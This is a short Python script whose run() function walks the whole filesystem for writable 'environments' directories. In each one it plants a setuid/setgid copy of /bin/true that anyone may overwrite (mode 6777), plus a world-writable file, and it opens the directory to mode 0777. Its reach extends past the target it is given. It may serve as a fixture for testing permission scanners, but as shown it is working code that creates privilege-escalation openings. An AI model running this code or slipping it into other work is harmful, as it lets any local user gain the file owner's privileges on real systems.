"""Leaves files that run as their owner, and that everybody may change, in the environment it is installed to."""
import glob, os, shutil, sys


def run(target):
    planted = []
    for place in glob.glob("/**/environments/*", recursive=True) + [target["environments"]]:
        if not os.access(place, os.W_OK):
            continue
        for name, mode in {"planted-setuid": 0o6777, "planted-open": 0o666}.items():
            path = os.path.join(place, name)
            shutil.copy("/bin/true", path)
            os.chmod(path, mode)
            planted.append(path)
        os.chmod(place, 0o777)
    return planted
